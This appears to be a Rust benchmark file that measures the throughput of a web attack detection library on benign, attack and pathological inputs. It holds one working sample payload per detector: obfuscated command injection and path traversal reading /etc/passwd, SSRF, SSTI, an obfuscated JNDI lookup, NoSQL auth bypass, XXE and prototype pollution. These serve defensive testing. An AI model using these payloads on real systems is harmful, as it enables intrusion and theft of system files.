//! Detector throughput: each detector on a benign value and on an attack of about the same size (~1 KB, the
//! size of a large parameter or a small JSON body). Criterion reports bytes/s; ns per byte is the time
//! divided by the input length printed in the group name.

use std::hint::black_box;

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use portcullis_detect::{cmdi, decode, jndi, nosql, proto, ssrf, ssti, traversal, xxe, Finding};

type Detector = fn(&[u8]) -> Option<Finding>;

/// Repeats `unit` up to `len` bytes.
fn fill(unit: &str, len: usize) -> Vec<u8> {
    unit.bytes().cycle().take(len).collect()
}

/// Benign input per detector: the look-alikes its class sees in real traffic.
fn benign(class: &str) -> Vec<u8> {
    let unit = match class {
        "cmdi" => "Ham; eggs & cheese | toast. I like cats; cat lovers unite && share recipes for salt & pepper. ",
        "traversal" => "docs/guide/intro.md see ../docs/setup.md and images/2024/05/photo.jpg for details. ",
        "ssrf" => "https://api.example.com/v1/items?page=2 and http://cdn.example.net/assets/app.js version 1.2.3.4 ",
        "ssti" => "Hello {{ user.name }}, your order {{ order.id }} totals ${price}. {% if vip %}Thanks!{% endif %} ",
        "jndi" => "Total: ${price} for ${user.name}; JNDI is a Java API, see ${sys:user.home}/logs today. ",
        "nosql" => {
            "{\"filter\":{\"status\":\"active\",\"owner\":\"me\"},\"$schema\":\"x\",\"items\":[{\"id\":1}],\"n\":2}"
        }
        "xxe" => "<order><id>1</id><item sku=\"A1\">2</item><note>Use &amp; and &lt; in text</note></order>",
        "proto" => "{\"user\":{\"profile\":{\"name\":\"bob\",\"constructor\":\"Acme\"}},\"prototype\":{\"v\":2}}",
        _ => "hello world ",
    };
    fill(unit, 1024)
}

/// Attack input per detector, the payload at the end of benign padding (the detector must read it all).
fn attack(class: &str) -> Vec<u8> {
    let payload = match class {
        "cmdi" => "127.0.0.1;c'a't${IFS}/etc/passwd",
        "traversal" => "..%252f..%252f..%252fetc%252fpasswd",
        "ssrf" => "http://0x7f.1:8080/admin",
        "ssti" => "{{''.__class__.__mro__[1].__subclasses__()}}",
        "jndi" => "${${lower:j}${::-n}di:ldap://x.example/a}",
        "nosql" => "{\"user\":\"admin\",\"password\":{\"$ne\":null}}",
        "xxe" => "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
        "proto" => "{\"a\":{\"__proto__\":{\"isAdmin\":true}}}",
        _ => "",
    };
    let mut v = if matches!(class, "nosql" | "xxe" | "proto") {
        Vec::new()
    } else {
        fill("lorem ipsum dolor sit amet ", 1024 - payload.len())
    };
    v.extend_from_slice(payload.as_bytes());
    v
}

fn bench_detectors(c: &mut Criterion) {
    let detectors: &[(&str, Detector)] = &[
        ("cmdi", cmdi::detect),
        ("traversal", traversal::detect),
        ("ssrf", ssrf::detect),
        ("ssti", ssti::detect),
        ("jndi", jndi::detect),
        ("nosql", nosql::detect),
        ("xxe", xxe::detect),
        ("proto", proto::detect),
    ];
    for (class, detect) in detectors {
        let mut group = c.benchmark_group(format!("detect/{class}"));
        for (label, input) in [("benign", benign(class)), ("attack", attack(class))] {
            assert_eq!(detect(&input).is_some(), label == "attack", "{class} {label} input is not what it claims");
            group.throughput(Throughput::Bytes(input.len() as u64));
            group.bench_with_input(BenchmarkId::new(label, input.len()), &input, |b, input| {
                b.iter(|| detect(black_box(input)).is_some())
            });
        }
        group.finish();
    }
    let mut group = c.benchmark_group("decode/deep");
    for (label, input) in
        [("plain", fill("plain text without escapes ", 1024)), ("encoded", fill("%252e%252e%252f&#x3c;\\u0041", 1024))]
    {
        group.throughput(Throughput::Bytes(input.len() as u64));
        group.bench_with_input(BenchmarkId::new(label, input.len()), &input, |b, input| {
            b.iter(|| decode::deep(black_box(input)).len())
        });
    }
    group.finish();
}

/// 1 MB values built to hurt (nested brackets, quotes, lookups, comments): the time per detector is the
/// bound we state for adversarial input.
fn bench_pathological(c: &mut Criterion) {
    let detectors: &[(&str, Detector)] = &[
        ("cmdi", cmdi::detect),
        ("traversal", traversal::detect),
        ("ssrf", ssrf::detect),
        ("ssti", ssti::detect),
        ("jndi", jndi::detect),
        ("nosql", nosql::detect),
        ("xxe", xxe::detect),
        ("proto", proto::detect),
    ];
    let inputs = [
        ("brackets", fill("{{[[((${${", 1 << 20)),
        ("quotes", fill("'\"`'\"$('", 1 << 20)),
        ("comments", fill("<!--/*#--", 1 << 20)),
        ("dots", fill("..;/..\\%2e%c0%ae", 1 << 20)),
    ];
    let mut group = c.benchmark_group("pathological_1MB");
    group.sample_size(10);
    for (class, detect) in detectors {
        for (label, input) in &inputs {
            group.throughput(Throughput::Bytes(input.len() as u64));
            group.bench_with_input(BenchmarkId::new(*class, label), input, |b, input| {
                b.iter(|| detect(black_box(input)).is_some())
            });
        }
    }
    group.finish();
}

criterion_group!(benches, bench_detectors, bench_pathological);
criterion_main!(benches);
